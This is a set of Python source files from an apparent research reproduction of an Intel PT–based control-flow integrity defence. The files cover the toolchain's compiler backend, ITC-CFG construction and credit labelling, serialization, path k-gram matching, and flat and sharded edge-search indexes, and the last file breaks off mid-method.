        emit(A.lea(_SECOND, table_name))
        emit(A.add(_SECOND, _RESULT))
        emit(A.load(_SECOND, _SECOND, 0))
        emit(A.jmpr(_SECOND))
        for key in keys:
            emit(Label(case_labels[key]))
            for s in stmt.cases[key]:
                self._stmt(ast.as_stmt(s))
            emit(A.jmp(end_label))
        emit(Label(default_label))
        for s in stmt.default:
            self._stmt(ast.as_stmt(s))
        emit(Label(end_label))

    # -- conditions -----------------------------------------------------------

    def _branch_if_true(self, cond: ast.Expr, target: str) -> None:
        emit = self.items.append
        if isinstance(cond, ast.Rel):
            self._expr(cond.left)
            emit(A.push(_RESULT))
            self._expr(cond.right)
            emit(A.movr(_SECOND, _RESULT))
            emit(A.pop(_RESULT))
            emit(A.cmp(_RESULT, _SECOND))
            emit(A.jcc(_RELOPS[cond.op], target))
        else:
            self._expr(cond)
            emit(A.cmpi(_RESULT, 0))
            emit(A.jcc(Cond.NE, target))

    # -- expressions ---------------------------------------------------------------

    def _expr(self, expr: ast.Expr) -> None:
        """Evaluate ``expr`` into r6."""
        emit = self.items.append
        if isinstance(expr, ast.Const):
            emit(A.mov(_RESULT, expr.value))
        elif isinstance(expr, ast.Var):
            emit(A.load(_RESULT, FP, self._local_offset(expr.name)))
        elif isinstance(expr, ast.AddrOf):
            emit(A.movr(_RESULT, FP))
            emit(A.addi(_RESULT, self._addr_offset(expr.name)))
        elif isinstance(expr, ast.Global):
            emit(A.lea(_RESULT, expr.name))
        elif isinstance(expr, ast.FuncRef):
            emit(A.lea(_RESULT, expr.name))
        elif isinstance(expr, ast.BinOp):
            op = _BINOPS.get(expr.op)
            if op is None:
                raise CompileError(f"unknown operator {expr.op!r}")
            self._expr(expr.left)
            emit(A.push(_RESULT))
            self._expr(expr.right)
            emit(A.movr(_SECOND, _RESULT))
            emit(A.pop(_RESULT))
            emit(Insn(op, rd=_RESULT, rs=_SECOND))
        elif isinstance(expr, ast.Load):
            self._expr(expr.addr)
            if expr.byte:
                emit(A.loadb(_RESULT, _RESULT, expr.offset))
            else:
                emit(A.load(_RESULT, _RESULT, expr.offset))
        elif isinstance(expr, ast.Rel):
            true_label = self.program.fresh_label("reltrue")
            self._expr(expr.left)
            emit(A.push(_RESULT))
            self._expr(expr.right)
            emit(A.movr(_SECOND, _RESULT))
            emit(A.pop(_RESULT))
            emit(A.cmp(_RESULT, _SECOND))
            emit(A.mov(_RESULT, 1))
            emit(A.jcc(_RELOPS[expr.op], true_label))
            emit(A.mov(_RESULT, 0))
            emit(Label(true_label))
        elif isinstance(expr, ast.Call):
            self._call_args(expr.args)
            emit(A.call(expr.name))
            emit(A.movr(_RESULT, R0))
        elif isinstance(expr, ast.CallPtr):
            self._expr(expr.target)
            emit(A.push(_RESULT))
            self._call_args(expr.args, extra_pop=_TARGET)
            emit(A.callr(_TARGET))
            emit(A.movr(_RESULT, R0))
        elif isinstance(expr, ast.SyscallExpr):
            self._call_args(expr.args)
            emit(A.mov(R0, expr.number))
            emit(A.syscall())
            emit(A.movr(_RESULT, R0))
        else:
            raise CompileError(f"unknown expression: {expr!r}")

    def _call_args(
        self, args: Sequence[ast.Expr], extra_pop: Optional[int] = None
    ) -> None:
        """Evaluate arguments onto the stack, then pop into r1..rN.

        When ``extra_pop`` is given, one more value (pushed *before* the
        arguments) is popped into that register afterwards — used for the
        indirect-call target.
        """
        emit = self.items.append
        if len(args) > _MAX_ARGS:
            raise CompileError(f"more than {_MAX_ARGS} arguments")
        for arg in args:
            self._expr(arg)
            emit(A.push(_RESULT))
        for index in reversed(range(len(args))):
            emit(A.pop(1 + index))
        if extra_pop is not None:
            emit(A.pop(extra_pop))
