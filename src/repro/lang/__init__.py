"""A mini structured language compiled to the repro ISA.

The paper's workloads are C programs; this package is the stand-in
toolchain.  It compiles functions built from expressions/statements into
module code with conventional stack frames (saved FP + return address on
the stack, locals below), so that:

- buffer overflows into local arrays clobber return addresses exactly as
  in compiled C (the ROP entry point),
- ``switch`` statements become indirect jumps through in-data jump
  tables, and function pointers flow through registers (the forward-edge
  attack surface), and
- the emitted CFGs have the direct/conditional/indirect branch mix that
  drives the paper's AIA and overhead numbers.
"""

from repro.lang.ast import (
    AddrOf,
    Asm,
    Assign,
    BinOp,
    Break,
    Call,
    CallPtr,
    Const,
    Continue,
    Expr,
    ExprStmt,
    Func,
    FuncRef,
    Global,
    If,
    Let,
    LocalArray,
    Load,
    Rel,
    Return,
    Stmt,
    Store,
    Switch,
    SyscallExpr,
    Var,
    While,
    as_stmt,
)
from repro.lang.compiler import CompileError, Compiler, Program

__all__ = [
    "AddrOf",
    "Asm",
    "Assign",
    "BinOp",
    "Break",
    "Call",
    "CallPtr",
    "CompileError",
    "Compiler",
    "Const",
    "Continue",
    "Expr",
    "ExprStmt",
    "Func",
    "FuncRef",
    "Global",
    "If",
    "Let",
    "LocalArray",
    "Load",
    "Program",
    "Rel",
    "Return",
    "Stmt",
    "Store",
    "Switch",
    "SyscallExpr",
    "Var",
    "While",
    "as_stmt",
]
