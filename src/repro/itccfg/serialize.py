"""ITC-CFG serialization and memory accounting (Table 5 support).

The trained CFG is produced offline and shipped alongside the protected
binary; the kernel module loads it at protection time.  The dict format
is JSON-compatible.
"""

from __future__ import annotations

from typing import Dict

from repro.itccfg.construct import ITCCFG, ITCEdge
from repro.itccfg.credits import CreditLabeledITC, CreditLevel, EdgeLabel


def itccfg_to_dict(labeled: CreditLabeledITC) -> Dict:
    """Serialise a credit-labelled ITC-CFG to a JSON-compatible dict."""
    return {
        "nodes": sorted(labeled.itc.nodes),
        "edges": [
            {"src": e.src, "dst": e.dst, "branch": e.branch_addr}
            for e in labeled.itc.edges
        ],
        "labels": [
            {
                "src": src,
                "dst": dst,
                "credit": int(label.credit),
                "tnt": ["".join("1" if b else "0" for b in pattern)
                        for pattern in sorted(label.tnt_patterns)],
            }
            for (src, dst), label in sorted(labeled.labels.items())
        ],
        "trained_entry_nodes": sorted(labeled.trained_entry_nodes),
    }


def itccfg_from_dict(data: Dict) -> CreditLabeledITC:
    """Inverse of :func:`itccfg_to_dict`."""
    itc = ITCCFG()
    itc.nodes = set(data["nodes"])
    for entry in data["edges"]:
        itc.add_edge(ITCEdge(entry["src"], entry["dst"], entry["branch"]))
    labeled = CreditLabeledITC(itc=itc)
    for entry in data.get("labels", []):
        label = EdgeLabel(credit=CreditLevel(entry["credit"]))
        for pattern in entry.get("tnt", []):
            label.tnt_patterns.add(tuple(c == "1" for c in pattern))
        labeled.labels[(entry["src"], entry["dst"])] = label
    labeled.trained_entry_nodes = set(data.get("trained_entry_nodes", []))
    return labeled


def itccfg_memory_bytes(labeled: CreditLabeledITC) -> int:
    """In-kernel resident size estimate of the maintained ITC-CFG."""
    size = 8 * len(labeled.itc.nodes)
    size += 24 * len(labeled.itc.edges)  # src, dst, branch
    for label in labeled.labels.values():
        size += 17  # key + credit byte
        size += sum(8 + (len(p) + 7) // 8 for p in label.tnt_patterns)
    return size
