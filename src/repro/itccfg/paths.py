"""High-credit path matching — the paper's future-work extension.

§7.1.2: "We can also make the fast path more context-sensitive by
matching the high-credit paths, each of which consisting of multiple
consecutive high-credit edges.  This can significantly strengthen the
security of fast path, however, it may introduce larger number of slow
path checking; we leave this as our future work."

The implementation records every *k-gram* of consecutive IT-BBs
observed during training.  At runtime the fast path additionally
requires each k-gram in the checked window to have been trained —
an attacker stitching individually-trained edges into a novel order is
demoted to the slow path even though every single edge looks credible.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Sequence, Set, Tuple


@dataclass
class PathIndex:
    """Trained k-grams of consecutive TIP targets."""

    gram: int = 4
    _grams: Set[Tuple[int, ...]] = field(default_factory=set)
    #: shorter prefixes at trace starts are also trained, so windows
    #: beginning mid-path do not false-demote.
    _suffixes: Set[Tuple[int, ...]] = field(default_factory=set)

    def __post_init__(self) -> None:
        if self.gram < 2:
            raise ValueError("path grams need at least two nodes")

    # -- training ----------------------------------------------------------

    def observe_sequence(self, nodes: Sequence[int]) -> int:
        """Record all k-grams of a training trace; returns #new grams."""
        added = 0
        nodes = list(nodes)
        for start in range(len(nodes) - self.gram + 1):
            window = tuple(nodes[start : start + self.gram])
            if window not in self._grams:
                self._grams.add(window)
                added += 1
        # Every proper suffix of a trained gram is a legal window start.
        for window in list(self._grams):
            for cut in range(1, self.gram - 1):
                self._suffixes.add(window[cut:])
        return added

    # -- checking -----------------------------------------------------------

    def contains(self, window: Sequence[int]) -> bool:
        window = tuple(window)
        if len(window) == self.gram:
            return window in self._grams
        if len(window) < self.gram:
            return window in self._suffixes or any(
                gram[: len(window)] == window for gram in self._grams
            )
        return all(
            self.contains(window[i : i + self.gram])
            for i in range(len(window) - self.gram + 1)
        )

    def untrained_grams(self, nodes: Sequence[int]
                        ) -> List[Tuple[int, ...]]:
        """The k-grams of ``nodes`` never seen in training."""
        nodes = list(nodes)
        out: List[Tuple[int, ...]] = []
        for start in range(len(nodes) - self.gram + 1):
            window = tuple(nodes[start : start + self.gram])
            if window not in self._grams:
                out.append(window)
        return out

    @property
    def trained_gram_count(self) -> int:
        return len(self._grams)

    def memory_bytes(self) -> int:
        return 8 * self.gram * len(self._grams)
