"""Sharded flow-search index for contention-free N-worker probing.

The flat :class:`~repro.itccfg.searchindex.FlowSearchIndex` keeps one
hot cache and one edge memo — the only *mutable* state on the fast
path.  With hundreds of checker workers probing one index, those dicts
are the write-contention points (``promote()`` mutates them under
every worker's feet).  :class:`ShardedFlowSearchIndex` splits exactly
that mutable state into N per-module shards, routed by source address,
while the immutable spine — the sorted source array, flattened target
arrays, and credit labelling — stays shared read-only across shards:

- a probe touches only its owning shard's hot/memo dicts, so N workers
  checking N different modules never write-share a cache line;
- ``promote()`` routes to the owning shard, and its memo invalidation
  scans only that shard's entries;
- shard stats aggregate *exactly* to the flat totals (the test suite
  asserts cycles, verdicts, promotions and stats bit-identical to a
  flat index replaying the same stream).

Routing is per-module: text segments are megabyte-scale regions, so
``(src >> MODULE_SHIFT) % shards`` keeps each module's edges (and the
hot-path locality that module enjoys) inside one shard.

Cycle-model note: probe charges derive from the *global* spine sizes
(``len(src_arr).bit_length()``), never from shard-local sizes, and all
charges land on the shared ``cycles`` meter in the same order as the
flat index — sharding is a concurrency layout, not a different
instrument.  With ``edge_cache_entries`` > 0 the memo LRU becomes
per-shard (capacity applies per shard), which can change *eviction*
order versus one global LRU; the fleet default keeps the memo off, and
the parity gates run that configuration.
"""

from __future__ import annotations

import bisect
from collections import OrderedDict
from typing import Tuple

from repro import costs
from repro.telemetry import get_telemetry
from repro.ipt.packets import pack_tnt_sig, unpack_tnt_sig
from repro.itccfg.credits import CreditLabeledITC, CreditLevel
from repro.itccfg.searchindex import (
    BatchCheckResult,
    FlowSearchIndex,
    LookupResult,
)

#: per-module routing granularity: 1 MiB address regions.
MODULE_SHIFT = 20


class _IndexShard:
    """One shard's mutable state (hot cache + memo + counters)."""

    __slots__ = (
        "hot", "hot_sigs", "memo",
        "memo_hits", "memo_misses", "memo_invalidations", "promotions",
    )

    def __init__(self) -> None:
        self.hot = {}
        self.hot_sigs = {}
        self.memo: "OrderedDict[tuple, LookupResult]" = OrderedDict()
        self.memo_hits = 0
        self.memo_misses = 0
        self.memo_invalidations = 0
        self.promotions = 0


class ShardedFlowSearchIndex(FlowSearchIndex):
    """N promote/memo domains over one shared immutable spine."""

    def __init__(
        self,
        labeled: CreditLabeledITC,
        shards: int,
        edge_cache_entries: int = 0,
    ) -> None:
        if shards < 1:
            raise ValueError("sharded index needs at least one shard")
        super().__init__(labeled, edge_cache_entries)
        self.shards = shards
        self._shard_list = [_IndexShard() for _ in range(shards)]
        # Partition the initial HIGH-credit hot entries by owner; the
        # per-shard dicts become the only store (their union is the
        # flat index's hot cache, asserted by shard_stats parity).
        for key, patterns in self._hot.items():
            shard = self._shard_list[self.shard_of(key[0])]
            shard.hot[key] = patterns
            shard.hot_sigs[key] = self._hot_sigs[key]
        # Poison the flat stores: every lookup below must go through a
        # shard, and an accidental flat access should fail loudly.
        self._hot = None
        self._hot_sigs = None
        self._memo = None

    # -- routing -------------------------------------------------------------

    def shard_of(self, src: int) -> int:
        """Owning shard of a source address (per-module regions)."""
        return (src >> MODULE_SHIFT) % self.shards

    # -- maintenance ---------------------------------------------------------

    def promote(self, src: int, dst: int, tnt: Tuple[bool, ...] = ()) -> None:
        """Credit promotion routed to the owning shard: only that
        shard's hot dicts and memo entries are touched."""
        shard = self._shard_list[self.shard_of(src)]
        shard.promotions += 1
        patterns = shard.hot.setdefault((src, dst), set())
        sigs = shard.hot_sigs.setdefault((src, dst), set())
        if tnt:
            patterns.add(tuple(tnt))
            sigs.add(pack_tnt_sig(tnt))
        if shard.memo:
            stale = [
                key for key in shard.memo
                if key[0] == src and key[1] == dst
            ]
            for key in stale:
                del shard.memo[key]
            if stale:
                shard.memo_invalidations += len(stale)
                self.memo_invalidations += len(stale)
                tel = get_telemetry()
                if tel.enabled:
                    tel.metrics.counter(
                        "itccfg.edge_cache.invalidations"
                    ).inc(len(stale))

    # -- lookups -------------------------------------------------------------

    def check_edge(
        self, src: int, dst: int, tnt: Tuple[bool, ...] = ()
    ) -> LookupResult:
        if not self.edge_cache_entries:
            return self._check_edge_uncached(src, dst, tnt)
        shard = self._shard_list[self.shard_of(src)]
        key = (src, dst, tuple(tnt))
        self.cycles += costs.EDGE_CACHE_PROBE_CYCLES
        cached = shard.memo.get(key)
        tel = get_telemetry()
        if cached is not None:
            shard.memo.move_to_end(key)
            shard.memo_hits += 1
            self.memo_hits += 1
            if tel.enabled:
                tel.metrics.counter("itccfg.edge_cache.hits").inc()
            return LookupResult(
                cached.in_graph, cached.credit, cached.tnt_ok, probes=1
            )
        shard.memo_misses += 1
        self.memo_misses += 1
        if tel.enabled:
            tel.metrics.counter("itccfg.edge_cache.misses").inc()
        result = self._check_edge_uncached(src, dst, tnt)
        shard.memo[key] = result
        if len(shard.memo) > self.edge_cache_entries:
            shard.memo.popitem(last=False)
        return result

    def _check_edge_uncached(
        self, src: int, dst: int, tnt: Tuple[bool, ...] = ()
    ) -> LookupResult:
        # Mirrors the flat index byte-for-byte, with the hot probe
        # routed to the owning shard.  Spine probes and charges use the
        # shared global arrays, so cycle accounting is identical.
        probes = 1
        self.cycles += costs.CREDIT_CACHE_PROBE_CYCLES
        hot = self._shard_list[self.shard_of(src)].hot.get((src, dst))
        if hot is not None:
            tnt_ok = not hot or tuple(tnt) in hot
            return LookupResult(True, CreditLevel.HIGH, tnt_ok, probes)

        found_src, src_probes = self._binary_search(self._sources, src)
        probes += src_probes
        self.cycles += src_probes * costs.SEARCH_PROBE_CYCLES
        if not found_src:
            return LookupResult(False, CreditLevel.LOW, False, probes)
        index = bisect.bisect_left(self._sources, src)
        found_dst, dst_probes = self._binary_search(
            self._targets[index], dst
        )
        probes += dst_probes
        self.cycles += dst_probes * costs.SEARCH_PROBE_CYCLES
        if not found_dst:
            return LookupResult(False, CreditLevel.LOW, False, probes)
        credit = self.labeled.credit_of(src, dst)
        tnt_ok = (
            credit is CreditLevel.HIGH
            and self.labeled.tnt_matches(src, dst, tnt)
        )
        return LookupResult(True, credit, tnt_ok, probes)

    def check_batch(self, ips: list, sigs: list) -> BatchCheckResult:
        """The flat index's batched loop with per-pair shard routing.

        Identical cycle charges in identical order, identical early
        stop, identical telemetry — only the dict each hot/memo probe
        lands in differs (the owning shard's).
        """
        outcome = BatchCheckResult()
        low_credit = outcome.low_credit
        memo_capacity = self.edge_cache_entries
        shard_list = self._shard_list
        shard_count = self.shards
        src_arr = self._src_arr
        tgt_flat = self._tgt_flat
        tgt_bounds = self._tgt_bounds
        src_probes = max(1, len(src_arr).bit_length())
        credit_probe = costs.CREDIT_CACHE_PROBE_CYCLES
        search_probe = costs.SEARCH_PROBE_CYCLES
        memo_probe = costs.EDGE_CACHE_PROBE_CYCLES
        bisect_left = bisect.bisect_left
        high = CreditLevel.HIGH
        low_level = CreditLevel.LOW
        labeled = self.labeled
        hit_counter = miss_counter = None
        if memo_capacity:
            tel = get_telemetry()
            if tel.enabled:
                hit_counter = tel.metrics.counter("itccfg.edge_cache.hits")
                miss_counter = tel.metrics.counter("itccfg.edge_cache.misses")
        sig_tuples = self._sig_tuples
        checked = 0
        for index in range(1, len(ips)):
            src = ips[index - 1]
            dst = ips[index]
            sig = sigs[index]
            checked += 1
            shard = shard_list[(src >> MODULE_SHIFT) % shard_count]
            key = None
            if memo_capacity:
                memo = shard.memo
                tnt = sig_tuples.get(sig)
                if tnt is None:
                    tnt = unpack_tnt_sig(sig)
                    sig_tuples[sig] = tnt
                key = (src, dst, tnt)
                self.cycles += memo_probe
                cached = memo.get(key)
                if cached is not None:
                    memo.move_to_end(key)
                    shard.memo_hits += 1
                    self.memo_hits += 1
                    if hit_counter is not None:
                        hit_counter.inc()
                    if not cached.in_graph:
                        outcome.violation = (src, dst)
                        break
                    if cached.credit is not high or not cached.tnt_ok:
                        low_credit.append((src, dst))
                    continue
                shard.memo_misses += 1
                self.memo_misses += 1
                if miss_counter is not None:
                    miss_counter.inc()
            # -- uncached lookup (mirrors the flat loop) ---------------------
            probes = 1
            self.cycles += credit_probe
            hot = shard.hot_sigs.get((src, dst))
            if hot is not None:
                in_graph = True
                credit = high
                tnt_ok = not hot or sig in hot
            else:
                probes += src_probes
                self.cycles += src_probes * search_probe
                position = bisect_left(src_arr, src)
                if position < len(src_arr) and src_arr[position] == src:
                    lo = tgt_bounds[position]
                    hi = tgt_bounds[position + 1]
                    dst_probes = max(1, (hi - lo).bit_length())
                    probes += dst_probes
                    self.cycles += dst_probes * search_probe
                    slot = bisect_left(tgt_flat, dst, lo, hi)
                    if slot < hi and tgt_flat[slot] == dst:
                        in_graph = True
                        credit = labeled.credit_of(src, dst)
                        if credit is high:
                            tnt = sig_tuples.get(sig)
                            if tnt is None:
                                tnt = unpack_tnt_sig(sig)
                                sig_tuples[sig] = tnt
                            tnt_ok = labeled.tnt_matches(src, dst, tnt)
                        else:
                            tnt_ok = False
                    else:
                        in_graph = False
                        credit = low_level
                        tnt_ok = False
                else:
                    in_graph = False
                    credit = low_level
                    tnt_ok = False
            if memo_capacity:
                shard.memo[key] = LookupResult(in_graph, credit, tnt_ok, probes)
                if len(shard.memo) > memo_capacity:
                    shard.memo.popitem(last=False)
            if not in_graph:
                outcome.violation = (src, dst)
                break
            if credit is not high or not tnt_ok:
                low_credit.append((src, dst))
        outcome.checked = checked
        return outcome

    # -- stats ---------------------------------------------------------------

    def edge_cache_stats(self) -> dict:
        return {
            "entries": self.edge_cache_entries,
            "resident": sum(len(s.memo) for s in self._shard_list),
            "hits": self.memo_hits,
            "misses": self.memo_misses,
            "invalidations": self.memo_invalidations,
            "hit_rate": (
                self.memo_hits / (self.memo_hits + self.memo_misses)
                if (self.memo_hits + self.memo_misses) else 0.0
            ),
            "shards": self.shards,
        }

    def memory_bytes(self) -> int:
        size = 24 * len(self._sources)
        size += sum(8 * len(targets) for targets in self._targets)
        for shard in self._shard_list:
            for patterns in shard.hot.values():
                size += 16  # edge key
                size += sum(8 + (len(p) + 7) // 8 for p in patterns)
        return size

    def shard_stats(self) -> list:
        """Per-shard observables; their sums equal the flat totals."""
        return [
            {
                "hot_edges": len(shard.hot),
                "memo_resident": len(shard.memo),
                "memo_hits": shard.memo_hits,
                "memo_misses": shard.memo_misses,
                "invalidations": shard.memo_invalidations,
                "promotions": shard.promotions,
            }
            for shard in self._shard_list
        ]


def build_flow_index(
    labeled: CreditLabeledITC,
    edge_cache_entries: int = 0,
    index_shards: int = 0,
) -> FlowSearchIndex:
    """The fast-path index for a policy: flat when ``index_shards`` is
    0, sharded otherwise — same surface, same charges, same verdicts."""
    if index_shards > 0:
        return ShardedFlowSearchIndex(
            labeled, index_shards, edge_cache_entries=edge_cache_entries
        )
    return FlowSearchIndex(labeled, edge_cache_entries=edge_cache_entries)
