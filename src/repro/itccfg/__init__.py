"""The IPT-compatible CFG (ITC-CFG) and its credit labelling (§4.2-4.3).

The ITC-CFG keeps only the *indirect target basic blocks* (IT-BBs) of
the O-CFG and connects IT-BB x to IT-BB y iff some O-CFG path from x
reaches y by crossing exactly one indirect edge as its final hop (any
number of direct edges before it).  By construction, every pair of
consecutive TIP packets in a legal IPT trace corresponds to an ITC edge
— so the packet stream can be searched directly on the graph without
full decoding, with zero false positives.

Fuzzing-driven training labels edges with credits (high = observed in
training) and attaches the TNT sequences seen on each edge, which
restores the direct-fork precision the reconstruction loses (Figure 4).
"""

from repro.itccfg.construct import ITCCFG, ITCEdge, build_itccfg
from repro.itccfg.credits import (
    CreditLabeledITC,
    CreditLevel,
    EdgeLabel,
)
from repro.itccfg.paths import PathIndex
from repro.itccfg.searchindex import FlowSearchIndex
from repro.itccfg.shardindex import (
    ShardedFlowSearchIndex,
    build_flow_index,
)
from repro.itccfg.serialize import (
    itccfg_from_dict,
    itccfg_memory_bytes,
    itccfg_to_dict,
)

__all__ = [
    "CreditLabeledITC",
    "CreditLevel",
    "EdgeLabel",
    "FlowSearchIndex",
    "ITCCFG",
    "ITCEdge",
    "PathIndex",
    "ShardedFlowSearchIndex",
    "build_flow_index",
    "build_itccfg",
    "itccfg_from_dict",
    "itccfg_memory_bytes",
    "itccfg_to_dict",
]
