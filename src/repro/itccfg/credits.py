"""Credit labels and TNT association for ITC-CFG edges (§4.3).

The training phase replays fuzzer-discovered inputs on the traced
program and marks every ITC edge observed in a trace with a *high*
credit, attaching the TNT sequence seen between the two TIP packets.
Untrained edges keep a *low* credit — they are still legal (the graph is
conservative), but traversing one at runtime demotes the check to the
slow path.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Set, Tuple

from repro.itccfg.construct import ITCCFG


class CreditLevel(enum.IntEnum):
    LOW = 0
    HIGH = 1


@dataclass
class EdgeLabel:
    credit: CreditLevel = CreditLevel.LOW
    #: TNT sequences observed on this edge during training.
    tnt_patterns: Set[Tuple[bool, ...]] = field(default_factory=set)


class UnknownEdge(Exception):
    """A trace contained an edge outside the ITC-CFG (CFI violation)."""


@dataclass
class CreditLabeledITC:
    """An ITC-CFG plus per-edge training labels."""

    itc: ITCCFG
    labels: Dict[Tuple[int, int], EdgeLabel] = field(default_factory=dict)
    #: IT-BBs observed as the *first* TIP of a trace during training.
    trained_entry_nodes: Set[int] = field(default_factory=set)

    # -- training ----------------------------------------------------------

    def observe_pair(
        self, src: int, dst: int, tnt: Tuple[bool, ...],
        strict: bool = True,
    ) -> None:
        """Record one consecutive-TIP observation from a training trace."""
        if not self.itc.has_edge(src, dst):
            if strict:
                raise UnknownEdge(
                    f"trace edge {src:#x} -> {dst:#x} not in ITC-CFG"
                )
            return
        label = self.labels.setdefault((src, dst), EdgeLabel())
        label.credit = CreditLevel.HIGH
        label.tnt_patterns.add(tuple(tnt))

    def observe_trace(
        self, tips: Iterable[Tuple[int, Tuple[bool, ...]]],
        strict: bool = True,
    ) -> int:
        """Label edges from a sequence of (tip_ip, tnt_before) records.

        Returns the number of edges observed.
        """
        previous: Optional[int] = None
        count = 0
        for ip, tnt in tips:
            if previous is None:
                if self.itc.has_node(ip):
                    self.trained_entry_nodes.add(ip)
            else:
                self.observe_pair(previous, ip, tnt, strict=strict)
                count += 1
            previous = ip
        return count

    # -- queries -----------------------------------------------------------------

    def credit_of(self, src: int, dst: int) -> CreditLevel:
        label = self.labels.get((src, dst))
        return label.credit if label is not None else CreditLevel.LOW

    def tnt_matches(self, src: int, dst: int, tnt: Tuple[bool, ...]) -> bool:
        """Whether a runtime TNT sequence was seen on this edge in
        training (only meaningful for high-credit edges)."""
        label = self.labels.get((src, dst))
        if label is None:
            return False
        return tuple(tnt) in label.tnt_patterns

    def high_credit_edges(self) -> List[Tuple[int, int]]:
        return [
            key
            for key, label in self.labels.items()
            if label.credit is CreditLevel.HIGH
        ]

    def trained_ratio(self) -> float:
        """Fraction of ITC edges holding a high credit."""
        if not self.itc.edges:
            return 0.0
        unique_edges = {(e.src, e.dst) for e in self.itc.edges}
        return len(self.high_credit_edges()) / len(unique_edges)

    def promote(self, src: int, dst: int,
                tnt: Tuple[bool, ...] = ()) -> None:
        """Promote an edge to high credit (slow-path negative caching:
        §7.1.1 — "negative results of slow path checking are cached for
        the subsequent fast path checking")."""
        label = self.labels.setdefault((src, dst), EdgeLabel())
        label.credit = CreditLevel.HIGH
        if tnt:
            label.tnt_patterns.add(tuple(tnt))
