"""ITC-CFG construction: collapse direct edges, keep IT-BBs (§4.2)."""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field
from typing import Dict, List, Set

from repro.telemetry import get_telemetry
from repro.analysis.cfg import ControlFlowGraph


@dataclass(frozen=True)
class ITCEdge:
    """An edge between IT-BB *entry addresses*.

    Unlike O-CFG edges (exit -> entry), ITC edges connect entries to
    entries, because TIP packets reveal target addresses only.
    ``branch_addr`` is the underlying indirect branch whose retirement
    produces the second TIP — kept for the TNT/AIA accounting, it is
    not visible to the fast-path checker.
    """

    src: int
    dst: int
    branch_addr: int


@dataclass
class ITCCFG:
    """Indirect-targets-connected CFG."""

    nodes: Set[int] = field(default_factory=set)
    edges: List[ITCEdge] = field(default_factory=list)
    _succ: Dict[int, Set[int]] = field(default_factory=dict)

    def add_edge(self, edge: ITCEdge) -> None:
        self.edges.append(edge)
        self._succ.setdefault(edge.src, set()).add(edge.dst)

    def successors(self, node: int) -> Set[int]:
        return self._succ.get(node, set())

    def has_node(self, addr: int) -> bool:
        return addr in self.nodes

    def has_edge(self, src: int, dst: int) -> bool:
        return dst in self._succ.get(src, ())

    @property
    def edge_count(self) -> int:
        return len(self.edges)

    def stats(self) -> Dict[str, int]:
        return {"nodes": len(self.nodes), "edges": len(self.edges)}


def build_itccfg(ocfg: ControlFlowGraph) -> ITCCFG:
    """Reconstruct the O-CFG into its IPT-compatible form.

    For every IT-BB x, walk forward over *direct* edges only; each
    indirect edge leaving any reached block contributes an ITC edge
    from x to that indirect target.  Traversal never crosses an
    indirect edge — packets re-anchor the search at every TIP.
    """
    tel = get_telemetry()
    itc = ITCCFG()
    with tel.tracer.span("itccfg.construct"):
        it_bbs = ocfg.indirect_target_blocks()
        itc.nodes = set(it_bbs)

        for origin in it_bbs:
            seen: Set[int] = {origin}
            queue = deque([origin])
            emitted: Set[tuple] = set()
            while queue:
                block_start = queue.popleft()
                for edge in ocfg.successors(block_start):
                    if edge.is_indirect:
                        key = (edge.dst, edge.branch_addr)
                        if key not in emitted:
                            emitted.add(key)
                            itc.add_edge(
                                ITCEdge(origin, edge.dst, edge.branch_addr)
                            )
                    elif edge.dst not in seen:
                        seen.add(edge.dst)
                        queue.append(edge.dst)
    if tel.enabled:
        tel.metrics.counter("itccfg.builds").inc()
        tel.metrics.counter("itccfg.edges_built").inc(itc.edge_count)
    return itc
