"""The fast-path matching structure of §5.3.

FlowGuard maintains an array of source-node records, each holding a
count of outgoing edges and a pointer to a sorted array of target
addresses, so membership tests are two binary searches.  A separate
"hot" store caches high-credit edges (with their TNT patterns) for the
common case.  Every probe charges cycles so the micro-benchmarks can
report realistic fast-path costs.
"""

from __future__ import annotations

import bisect
from collections import OrderedDict
from dataclasses import dataclass
from typing import Dict, List, Set, Tuple

from repro import costs
from repro.telemetry import get_telemetry
from repro.itccfg.credits import CreditLabeledITC, CreditLevel


@dataclass
class LookupResult:
    """Outcome of one edge check."""

    in_graph: bool
    credit: CreditLevel
    tnt_ok: bool
    probes: int


class FlowSearchIndex:
    """Sorted-array search structure over a credit-labelled ITC-CFG.

    ``edge_cache_entries`` > 0 additionally memoizes full
    ``(src, dst, tnt)`` lookup verdicts in a bounded LRU: a memo hit is
    a single hash probe (``EDGE_CACHE_PROBE_CYCLES``) instead of the
    credit-cache probe plus binary searches.  :meth:`promote` mutates
    edge state, so it invalidates every memo for the promoted edge.
    """

    def __init__(
        self,
        labeled: CreditLabeledITC,
        edge_cache_entries: int = 0,
    ) -> None:
        self.labeled = labeled
        self.edge_cache_entries = edge_cache_entries
        self._memo: "OrderedDict[Tuple[int, int, Tuple[bool, ...]], LookupResult]" = OrderedDict()
        self.memo_hits = 0
        self.memo_misses = 0
        self.memo_invalidations = 0
        succ: Dict[int, Set[int]] = {}
        for edge in labeled.itc.edges:
            succ.setdefault(edge.src, set()).add(edge.dst)
        #: sorted source-node array (§5.3).
        self._sources: List[int] = sorted(succ)
        #: per-source sorted target arrays.
        self._targets: List[List[int]] = [
            sorted(succ[source]) for source in self._sources
        ]
        #: hot cache: high-credit edges with TNT patterns, in separate
        #: memory for fast matching.
        self._hot: Dict[Tuple[int, int], Set[Tuple[bool, ...]]] = {}
        for (src, dst), label in labeled.labels.items():
            if label.credit is CreditLevel.HIGH:
                self._hot[(src, dst)] = set(label.tnt_patterns)
        self.cycles = 0.0

    # -- maintenance ---------------------------------------------------------

    def promote(self, src: int, dst: int, tnt: Tuple[bool, ...] = ()) -> None:
        """Mirror a credit promotion into the hot cache."""
        patterns = self._hot.setdefault((src, dst), set())
        if tnt:
            patterns.add(tuple(tnt))
        if self._memo:
            stale = [
                key for key in self._memo
                if key[0] == src and key[1] == dst
            ]
            for key in stale:
                del self._memo[key]
            if stale:
                self.memo_invalidations += len(stale)
                tel = get_telemetry()
                if tel.enabled:
                    tel.metrics.counter(
                        "itccfg.edge_cache.invalidations"
                    ).inc(len(stale))

    # -- lookups ----------------------------------------------------------------

    def _binary_search(self, array: List[int], value: int) -> Tuple[bool, int]:
        """Membership + probe count (log2 cost model)."""
        probes = max(1, len(array).bit_length())
        index = bisect.bisect_left(array, value)
        found = index < len(array) and array[index] == value
        return found, probes

    def check_edge(
        self, src: int, dst: int, tnt: Tuple[bool, ...] = ()
    ) -> LookupResult:
